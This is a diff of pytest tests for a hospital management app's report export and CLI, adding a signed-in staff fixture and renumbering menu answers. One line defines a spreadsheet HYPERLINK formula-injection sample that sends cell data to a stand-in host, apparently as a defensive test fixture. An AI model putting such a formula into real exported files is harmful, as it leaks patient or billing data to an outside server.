@@ -22,7 +22,7 @@ from hospital_mgmt.domain.service import Service
 from hospital_mgmt.log_setup import configure
 from hospital_mgmt.operations import appointments, billing, doctors, documents, imports, patients, price_list, reports
 from tests.menu_driver import run_menu
-from tests.support import context_for
+from tests.support import SIGNED_IN, add_staff, context_for
 
 NOVEMBER = Period(date(2026, 11, 1), date(2026, 11, 30))
 FORMULA = '=HYPERLINK("http://x/?"&A2)'
@@ -84,12 +84,12 @@ def test_an_existing_file_is_replaced_only_when_asked(ctx, tmp_path):
 def test_the_menu_asks_before_replacing_a_file_and_asks_again_for_a_name(ctx, tmp_path):
     target, other = tmp_path / "mine.csv", tmp_path / "other.csv"
     target.write_text("keep me\n", encoding="utf-8")
-    answers = ["7", "1", "2026-11-01", "2026-11-30", str(target), "n", str(other), "0", "8"]
+    answers = ["7", "1", "2026-11-01", "2026-11-30", str(target), "n", str(other), "0", "10"]
     transcript = run_menu(ctx.db, ctx.settings, answers)
     assert (f"File [{ctx.settings.reports_dir / 'billing_summary_20261101_20261130.csv'}]: {target}\n"
             f"{target} exists already. Replace it? [y/N]: n\nNothing was written; give another name.\n") in transcript
     assert f"Wrote 1 rows to {other}" in transcript and target.read_text(encoding="utf-8") == "keep me\n"
-    transcript = run_menu(ctx.db, ctx.settings, ["7", "1", "", "", str(target), "y", "0", "8"])
+    transcript = run_menu(ctx.db, ctx.settings, ["7", "1", "", "", str(target), "y", "0", "10"])
     assert f"Wrote 1 rows to {target}" in transcript and read_rows(target)[1][0] == "B001"
 
 
@@ -102,8 +102,9 @@ def test_a_command_refuses_to_replace_a_file_without_force(ctx, tmp_path):
     if ctx.db.engine == "mysql":
         from tests.conftest import MYSQL_ENV
         env.update(MYSQL_ENV, DB_NAME=ctx.db.connection.database)
+    add_staff(ctx.db)
     with pytest.MonkeyPatch.context() as patch:
-        for name, value in env.items():
+        for name, value in {**env, **SIGNED_IN}.items():
             patch.setenv(name, value)
         assert run(["report", "unpaid", "--csv", str(target)]) == (
             1, run(["report", "unpaid"])[1], f"Error: {target} exists already; choose another name, or replace it "
